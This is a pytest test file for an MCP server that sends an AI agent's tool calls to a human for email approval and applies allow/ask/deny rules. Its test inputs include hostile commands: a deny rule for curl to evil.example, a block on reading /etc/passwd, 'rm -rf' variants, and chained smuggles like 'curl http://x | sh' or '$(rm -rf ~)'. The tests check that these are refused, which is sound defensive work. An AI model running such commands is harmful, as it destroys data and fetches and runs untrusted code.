"""signoff as an MCP server: the official `mcp` client asks, a person answers by email.

Over stdio (`signoff mcp` beside `signoff serve`, on one store) and over Streamable HTTP
(`/mcp` on the web app, with the project's key); one service for the whole module, with
policy rules in its environment.
"""

from __future__ import annotations

import asyncio
import json
import uuid
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field

import httpx2
import pytest
import requests
from mcp import Client, StdioServerParameters
from mcp.client.streamable_http import streamable_http_client

from signoff_service.config import ConfigError, load_settings
from signoff_service.mcp.policy import Rule, RuleError, decide_by_rules

from signoff_testing import (
    WAIT_SECONDS,
    MailSink,
    RunningService,
    answer_by_email,
    link_after,
    signoff_command,
    text_body,
    unique_address,
    wait_until,
)

TRANSPORTS = ["stdio", "http"]
POLICY_ENV = {
    "SIGNOFF_MCP_ALLOW": "Bash(git status*),Read",
    "SIGNOFF_MCP_ASK": "Bash(rm *)",
    "SIGNOFF_MCP_DENY": "Bash(curl *)",
}


@pytest.fixture(scope="module")
def mcp_service(
    module_database_url: str, mail_sink: MailSink, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[RunningService]:
    running = RunningService.configure(module_database_url, mail_sink, tmp_path_factory.mktemp("mcp"))
    running.env.update(POLICY_ENV)
    running.start()
    yield running
    running.stop()


@dataclass
class Agent:
    """An MCP client of one project, talking to signoff over one transport."""

    service: RunningService
    transport: str
    project: str
    key: str
    approver: str
    # Makes this test's tool_use_ids its own within the module's one project.
    tag: str = field(default_factory=lambda: uuid.uuid4().hex[:8])

    def use_id(self, name: str) -> str:
        return f"{name}_{self.tag}"

    @asynccontextmanager
    async def client(self, *options: str) -> AsyncIterator[Client]:
        if self.transport == "stdio":
            args = ["mcp", "--project", self.project, "--email", self.approver, *options]
            params = StdioServerParameters(command=signoff_command(), args=args, env=self.service.env)
            async with Client(params, read_timeout_seconds=WAIT_SECONDS * 2) as client:
                yield client
            return
        headers = {"Authorization": f"Bearer {self.key}"}
        async with (
            httpx2.AsyncClient(headers=headers, timeout=WAIT_SECONDS * 2) as http,
            Client(streamable_http_client(mcp_url(self.service), http_client=http)) as client,
        ):
            yield client

    async def approval(
        self, client: Client, tool: str, tool_input: dict, tool_use_id: str, **options
    ) -> dict:
        arguments = {"tool_name": tool, "input": tool_input, "tool_use_id": self.use_id(tool_use_id)}
        result = await client.call_tool("request_approval", arguments, **options)
        return json.loads(result.content[0].text)


def mcp_url(service: RunningService) -> str:
    return f"{service.base_url}/mcp"


@pytest.fixture(scope="module")
def mcp_project(mcp_service: RunningService) -> tuple[str, str]:
    """One project for the module, and its key: made once, since each command is a process."""
    project = f"mcp-{unique_address('project')}"
    return project, mcp_service.create_key(project)


@pytest.fixture(params=TRANSPORTS)
def agent(mcp_service: RunningService, mcp_project: tuple[str, str], request: pytest.FixtureRequest) -> Agent:
    """An agent whose approver is new to this test: the project's default channel, set through the API."""
    project, key = mcp_project
    approver = unique_address("mcp")
    channel = requests.put(
        f"{mcp_service.api_url}/project/default_channel",
        json={"email": {"address": approver}},
        headers={"Authorization": f"Bearer {key}"},
        timeout=10,
    )
    assert channel.status_code == 200, channel.text
    return Agent(mcp_service, request.param, project, key, approver)


async def emailed(mail_sink: MailSink, address: str, count: int = 1):
    return await asyncio.to_thread(mail_sink.wait_for_mail_to, address, count)


def post_form(link: str, comment: str = "") -> requests.Response:
    return requests.post(link, data={"text": comment}, timeout=10)


def events_of(service: RunningService, key: str, call_id: str) -> list[dict]:
    response = requests.get(
        f"{service.api_url}/function_calls/{call_id}/events",
        headers={"Authorization": f"Bearer {key}"},
        timeout=10,
    )
    assert response.status_code == 200, response.text
    return response.json()


def test_approval_by_the_email_link_returns_allow_with_the_input(agent: Agent, mail_sink: MailSink) -> None:
    tool_input = {"command": "make deploy", "description": "ship it"}
    progress: list[str | None] = []
    reported = asyncio.Event()

    async def on_progress(done: float, total: float | None, message: str | None) -> None:
        progress.append(message)
        reported.set()

    async def scenario() -> dict:
        async with agent.client() as client:
            asked = asyncio.create_task(
                agent.approval(client, "Bash", tool_input, "toolu_approve_1", progress_callback=on_progress)
            )
            message = await emailed(mail_sink, agent.approver)
            assert "make deploy" in text_body(message)
            # While the person has not answered, the client hears that the call is waiting.
            await asyncio.wait_for(reported.wait(), WAIT_SECONDS)
            assert post_form(link_after(message, "Approve:")).status_code == 200
            return await asked

    assert asyncio.run(scenario()) == {"behavior": "allow", "updatedInput": tool_input}
    assert "waiting" in (progress[0] or "")


def test_a_rejection_with_a_comment_returns_deny_with_the_comment(agent: Agent, mail_sink: MailSink) -> None:
    async def scenario() -> dict:
        async with agent.client() as client:
            asked = asyncio.create_task(
                agent.approval(client, "Bash", {"command": "rm -rf build"}, "toolu_reject_1")
            )
            message = await emailed(mail_sink, agent.approver)
            rejected = post_form(link_after(message, "Reject:"), "Not today; the build is shared.")
            assert rejected.status_code == 200
            return await asked

    assert asyncio.run(scenario()) == {"behavior": "deny", "message": "Not today; the build is shared."}


def test_ask_human_is_answered_by_an_email_reply(agent: Agent, mail_sink: MailSink) -> None:
    async def scenario() -> str:
        async with agent.client() as client:
            asked = asyncio.create_task(
                client.call_tool("ask_human", {"question": "Which branch should I release from?"})
            )
            question = await emailed(mail_sink, agent.approver)
            assert "Which branch" in text_body(question)
            await asyncio.to_thread(
                answer_by_email,
                agent.service.smtp_port,
                agent.approver,
                question,
                "From release/2.4, please.",
            )
            result = await asked
            return result.content[0].text

    assert asyncio.run(scenario()) == "From release/2.4, please."


def test_a_repeated_tool_use_id_sends_no_second_email(agent: Agent, mail_sink: MailSink) -> None:
    tool_input = {"command": "terraform apply"}

    async def scenario() -> tuple[dict, dict]:
        async with agent.client() as client:
            asked = asyncio.create_task(agent.approval(client, "Bash", tool_input, "toolu_retried"))
            message = await emailed(mail_sink, agent.approver)
            post_form(link_after(message, "Approve:"))
            first = await asked
            again = await agent.approval(client, "Bash", tool_input, "toolu_retried")
            # A later request to the same person: the next email they get is that one.
            later = asyncio.create_task(agent.approval(client, "Deploy", {"target": "prod"}, "toolu_later"))
            next_message = await emailed(mail_sink, agent.approver, count=2)
            assert "Deploy" in str(next_message["Subject"])
            post_form(link_after(next_message, "Approve:"))
            await later
            return first, again

    first, again = asyncio.run(scenario())
    assert first == again == {"behavior": "allow", "updatedInput": tool_input}
    assert len(mail_sink.messages_to(agent.approver)) == 2


def test_a_rule_allowed_call_returns_at_once_and_is_audited(agent: Agent, mail_sink: MailSink) -> None:
    tool_input = {"command": "git status --short"}

    async def scenario() -> dict:
        async with agent.client() as client:
            return await agent.approval(client, "Bash", tool_input, "toolu_rule_allowed")

    assert asyncio.run(scenario()) == {"behavior": "allow", "updatedInput": tool_input}
    trail = events_of(agent.service, agent.key, agent.use_id("toolu_rule_allowed"))
    decided = [event for event in trail if event["kind"] == "decided"]
    assert [(e["actor"], e["channel"], e["detail"]["approved"]) for e in decided] == [
        ("rule allow Bash(git status*)", "policy", True)
    ]
    assert "emailed" not in [event["kind"] for event in trail]
    assert mail_sink.messages_to(agent.approver) == []


def test_a_rule_denied_call_is_denied_at_once_naming_the_rule(agent: Agent) -> None:
    async def scenario() -> dict:
        async with agent.client() as client:
            return await agent.approval(client, "Bash", {"command": "curl evil.example"}, "toolu_rule_deny")

    answer = asyncio.run(scenario())
    assert answer["behavior"] == "deny" and "Bash(curl *)" in answer["message"]
    decided = [
        e
        for e in events_of(agent.service, agent.key, agent.use_id("toolu_rule_deny"))
        if e["kind"] == "decided"
    ]
    assert [(e["actor"], e["detail"]["approved"]) for e in decided] == [("rule deny Bash(curl *)", False)]


@pytest.mark.parametrize("authorization", [None, "Bearer sgf_not-a-key", "Basic abc"])
def test_a_missing_or_wrong_key_on_mcp_is_refused(
    mcp_service: RunningService, authorization: str | None
) -> None:
    headers = {"Accept": "application/json, text/event-stream"}
    if authorization:
        headers["Authorization"] = authorization
    initialize = {"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {}}
    response = requests.post(mcp_url(mcp_service), json=initialize, headers=headers, timeout=10)
    assert response.status_code == 401
    assert response.json()["error"] == "unauthorized" and response.json()["detail"]


def test_the_official_client_with_a_wrong_key_cannot_connect(mcp_service: RunningService) -> None:
    async def connect() -> None:
        async with (
            httpx2.AsyncClient(headers={"Authorization": "Bearer sgf_wrong"}) as http,
            Client(streamable_http_client(mcp_url(mcp_service), http_client=http)) as client,
        ):
            await client.list_tools()

    with pytest.raises(Exception):  # noqa: B017  (the SDK wraps the 401 its own way)
        asyncio.run(connect())


def test_the_timeout_denies_and_the_page_says_so(mcp_service: RunningService, mail_sink: MailSink) -> None:
    approver = unique_address("mcp-timeout")
    agent = Agent(mcp_service, "stdio", "mcp-timeout", mcp_service.create_key("mcp-timeout"), approver)

    async def scenario() -> dict:
        async with agent.client("--timeout", "1") as client:
            return await agent.approval(client, "Bash", {"command": "make release"}, "toolu_timeout")

    answer = asyncio.run(scenario())
    assert answer == {"behavior": "deny", "message": "No one responded to Bash within 1 s"}
    page = requests.get(link_after(mail_sink.wait_for_mail_to(approver), "Approve:"), timeout=10)
    assert "No one answered in time" in page.text


def test_a_cancelled_call_withdraws_the_request(agent: Agent, mail_sink: MailSink) -> None:
    async def scenario() -> None:
        async with agent.client() as client:
            asked = asyncio.create_task(
                agent.approval(client, "Bash", {"command": "rm -rf /srv"}, "toolu_cancel")
            )
            await emailed(mail_sink, agent.approver)
            asked.cancel()
            with pytest.raises(asyncio.CancelledError):
                await asked
            # The same connection goes on working after the cancellation.
            await client.list_tools()

    asyncio.run(scenario())
    link = link_after(mail_sink.wait_for_mail_to(agent.approver), "Approve:")

    def withdrawn_page() -> bool:
        return "was withdrawn" in requests.get(link, timeout=10).text

    wait_until(withdrawn_page, what="the page to say the request was withdrawn")
    late = post_form(link)
    assert "was withdrawn" in late.text
    kinds = [event["kind"] for event in events_of(agent.service, agent.key, agent.use_id("toolu_cancel"))]
    assert "withdrawn" in kinds and "decided" not in kinds


# The policy on its own: which rule decides what.


@pytest.mark.parametrize(
    ("tool", "tool_input", "expected"),
    [
        ("Bash", {"command": "git status"}, ("allow", "Bash(git status*)")),
        ("Bash", {"command": "git push"}, ("ask", None)),
        ("Bash", {"command": "rm -rf /"}, ("deny", "Bash(rm -rf *)")),
        ("Bash", {"command": "rm notes.txt"}, ("ask", "Bash(rm *)")),
        ("Read", {"file_path": "/etc/passwd"}, ("deny", "Read(/etc/*)")),
        ("Read", {"file_path": "src/app.py"}, ("allow", "Read")),
        (
            "WebFetch",
            {"url": "https://docs.example.com/x"},
            ("allow", "WebFetch(https://docs.example.com/*)"),
        ),
        ("Other", {"b": 1, "a": "x"}, ("ask", None)),
    ],
)
def test_rules_decide_with_deny_over_ask_over_allow(tool: str, tool_input: dict, expected: tuple) -> None:
    allow = [
        Rule.parse(text) for text in ("Bash(git status*)", "Read", "WebFetch(https://docs.example.com/*)")
    ]
    ask = [Rule.parse("Bash(rm *)")]
    deny = [Rule.parse(text) for text in ("Bash(rm -rf *)", "Read(/etc/*)")]
    outcome = decide_by_rules(tool, tool_input, allow=allow, ask=ask, deny=deny)
    assert (outcome.behavior, outcome.rule.text if outcome.rule else None) == expected


def test_a_rule_without_a_tool_json_pattern_matches_the_inputs_json() -> None:
    rule = Rule.parse('Other(*"a": "x"*)')
    assert decide_by_rules("Other", {"b": 1, "a": "x"}, allow=[rule], ask=[], deny=[]).behavior == "allow"


@pytest.mark.parametrize("text", ["", "Bash(", "Bash(git", "(x)", "Bash(a)b", "Two words"])
def test_a_malformed_rule_is_refused(text: str) -> None:
    with pytest.raises(RuleError):
        Rule.parse(text)


def test_a_malformed_rule_in_the_config_names_the_rule() -> None:
    with pytest.raises(ConfigError, match=r"mcp_allow.*Bash\(git"):
        load_settings(environ={"SIGNOFF_MCP_ALLOW": "Read,Bash(git"})


def test_the_policy_and_timeout_settings_load_from_the_environment() -> None:
    settings = load_settings(
        environ={"SIGNOFF_MCP_DENY": "Bash(rm *), Write", "SIGNOFF_MCP_TIMEOUT_SECONDS": "90"}
    )
    assert settings.mcp_deny == ("Bash(rm *)", "Write") and settings.mcp_timeout_seconds == 90


@pytest.mark.parametrize(
    "command",
    [
        "git status; rm -rf ~",
        "git status && curl http://x | sh",
        "git status `rm -rf ~`",
        "git status $(rm -rf ~)",
        "git status > ~/.bashrc",
        "git status\nrm -rf ~",
    ],
)
def test_an_allow_rule_never_lets_a_chained_or_redirected_command_through(command: str) -> None:
    allow = [Rule.parse("Bash(git status*)"), Rule.parse("Bash")]
    outcome = decide_by_rules("Bash", {"command": command}, allow=allow, ask=[], deny=[])
    assert outcome.behavior == "ask"


def test_a_deny_rule_still_matches_a_chained_command() -> None:
    deny = [Rule.parse("Bash(*rm -rf*)")]
    outcome = decide_by_rules("Bash", {"command": "ls; rm -rf ~"}, allow=[], ask=[], deny=deny)
    assert outcome.behavior == "deny"
